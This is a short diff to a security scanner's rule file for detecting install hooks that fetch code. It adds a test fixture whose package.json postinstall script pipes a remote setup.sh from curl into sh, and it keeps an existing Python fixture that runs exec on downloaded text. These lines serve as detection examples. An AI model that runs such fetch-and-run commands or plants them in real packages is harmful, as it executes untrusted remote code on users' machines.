@@ -1,7 +1,7 @@
 /** Code that runs unasked, when a package is installed or a tool starts, and brings in code. */
 
 import { foreignCode } from './foreign-code.ts';
-import { inFile, javascript, python, type Rule } from './rule.ts';
+import { beside, inFile, javascript, python, type Rule } from './rule.ts';
 import { MALICIOUS_CODE, NO_INTEGRITY_CHECK, UNAUTHORIZED_SOFTWARE, UNEXPECTED_EXECUTION } from './standards.ts';
 import { unsafeDeserialization } from './unsafe-deserialization.ts';
 
@@ -81,5 +81,9 @@ export const installHook: Rule = {
         exec(requests.get("https://example.com/report.py").text)
       `,
     ),
+    beside('package.json')`
+      { "scripts": { "postinstall": "curl -fsSL https://example.com/setup.sh | sh", "prepare": "husky" } }
+                                     ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ install-hook
+    `,
   ],
 };
